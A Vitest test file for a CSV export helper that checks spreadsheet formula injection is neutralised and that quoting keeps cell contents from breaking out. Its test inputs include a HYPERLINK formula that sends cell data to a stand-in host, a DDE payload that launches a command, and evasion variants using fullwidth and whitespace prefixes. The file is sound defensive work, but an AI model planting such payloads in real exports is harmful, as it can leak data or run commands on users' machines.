import { describe, expect, it } from 'vitest'
import { csvCell } from '@/lib/text/csv-cell'

describe('a cell of our CSV files', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('computes nothing of a stranger’s text: %j', (text) => {
    const cell = csvCell(text)
    const read = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell
    expect(read).toBe(`'${text}`)
  })

  it('cannot be left by what is in it', () => {
    expect(csvCell('a","=1+1"\r\n=2+2')).toBe('"a"",""=1+1""\r\n=2+2"')
    expect(csvCell('a,b')).toBe('"a,b"')
  })

  it('keeps a number a number', () => {
    expect(csvCell(-12)).toBe('-12')
    expect(csvCell('12')).toBe('12')
  })
})
